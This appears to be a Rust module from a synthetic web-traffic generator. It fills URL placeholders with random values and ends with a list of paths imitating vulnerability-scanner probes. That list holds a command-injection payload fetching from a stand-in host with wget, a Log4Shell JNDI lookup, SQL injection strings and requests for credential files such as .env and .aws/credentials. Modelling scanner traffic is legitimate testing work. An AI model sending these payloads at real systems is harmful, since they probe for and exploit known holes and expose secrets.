//! URL patterns: `/api/users/{user}?page={page}` becomes a path with values as real ones have them.

use crate::dice::Dice;
use chrono::DateTime;
use std::fmt::Write;

/// What some placeholders refer to.
pub(crate) struct Context {
    /// The client's own user number, and how many users there are.
    pub(crate) me: u64,
    pub(crate) users: u64,
    /// Microseconds since 1970.
    pub(crate) now: i64,
}

/// Appends `pattern` to `url` with its placeholders filled in. An unknown placeholder stays as it is.
pub(crate) fn fill(url: &mut String, pattern: &str, context: &Context, dice: &mut Dice) {
    let mut rest = pattern;
    while let Some((plain, after)) = rest.split_once('{') {
        url.push_str(plain);
        let (name, tail) = after.split_once('}').unwrap_or((after, ""));
        value(url, name, context, dice);
        rest = tail;
    }
    url.push_str(rest);
}

fn value(url: &mut String, name: &str, context: &Context, dice: &mut Dice) {
    // Writing to a String cannot fail.
    let _ = match name {
        "me" => write!(url, "{}", context.me),
        "user" => write!(url, "{}", 1 + dice.below(context.users)),
        "flock" => write!(url, "{}", 1 + dice.below(2_400)),
        "page" => write!(url, "{}", 1 + dice.exponential(1.5) as u64),
        "zoom" => write!(url, "{}", dice.between(6, 16)),
        "uuid" => {
            let (high, low) = (dice.bits(), dice.bits());
            write!(
                url,
                "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
                high >> 32,
                (high >> 16) & 0xffff,
                high & 0xfff,
                0x8000 | ((low >> 48) & 0x3fff),
                low & 0xffff_ffff_ffff
            )
        }
        // File names change with a release, not with a request.
        "hex" => write!(url, "{:08x}", 0x5b1c_93e7_u64.wrapping_mul(1 + dice.below(6)) & 0xffff_ffff),
        "cursor" => return letters(url, BASE64, 32, dice),
        "token" => return letters(url, BASE64, 10, dice),
        "lat" => write!(url, "{:.4}", 35.0 + 20.0 * dice.unit()),
        "lon" => write!(url, "{:.4}", -9.0 + 30.0 * dice.unit()),
        "date" => {
            let day = context.now / 1_000_000 - 86_400 * dice.between(1, 30) as i64;
            let date = DateTime::from_timestamp(day, 0).unwrap_or_default();
            write!(url, "{}", date.format("%Y-%m-%d"))
        }
        "epoch" => write!(url, "{}", context.now / 1_000_000 - dice.between(20, 900) as i64),
        "period" => write!(url, "{}", dice.pick(&["week", "month", "season"])),
        "species" => write!(url, "{}-{}", dice.pick(&ADJECTIVES), dice.pick(&BIRDS)),
        "word" => {
            let words: &[&str] = if dice.chance(0.5) { &ADJECTIVES } else { &BIRDS };
            write!(url, "{}", dice.pick(words))
        }
        _ => write!(url, "{{{name}}}"),
    };
}

fn letters(text: &mut String, alphabet: &[u8; 64], count: usize, dice: &mut Dice) {
    let mut bits = 0;
    for index in 0..count {
        if index % 10 == 0 {
            bits = dice.bits();
        }
        text.push(char::from(alphabet[(bits & 63) as usize]));
        bits >>= 6;
    }
}

const BASE64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

const ADJECTIVES: [&str; 16] = [
    "arctic", "black", "blue", "common", "crested", "eurasian", "great", "green", "grey", "lesser", "little",
    "northern", "red", "rock", "water", "white",
];

const BIRDS: [&str; 24] = [
    "albatross",
    "bunting",
    "chough",
    "crane",
    "curlew",
    "dipper",
    "eagle",
    "finch",
    "godwit",
    "grebe",
    "heron",
    "hoopoe",
    "kingfisher",
    "lapwing",
    "merlin",
    "nuthatch",
    "osprey",
    "pipit",
    "redstart",
    "shrike",
    "stork",
    "tern",
    "wagtail",
    "warbler",
];

/// What vulnerability scanners ask for.
pub(crate) const SCANNED: [&str; 20] = [
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/wp-admin/setup-config.php?step=1",
    "/phpmyadmin/index.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/admin/",
    "/actuator/health",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://192.0.2.77/x`)",
    "/boaform/admin/formLogin?username=admin&psd=admin",
    "/api/users?id=1' or '1'='1",
    "/?id=1 UNION SELECT user,pass FROM users--",
    "/solr/admin/info/system?wt=json",
    "/server-status",
    "/.aws/credentials",
    "/config.json",
    "/HNAP1/",
    "/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f",
    "/?x=${jndi:ldap://192.0.2.77/a}",
    "/backup.sql.gz",
];
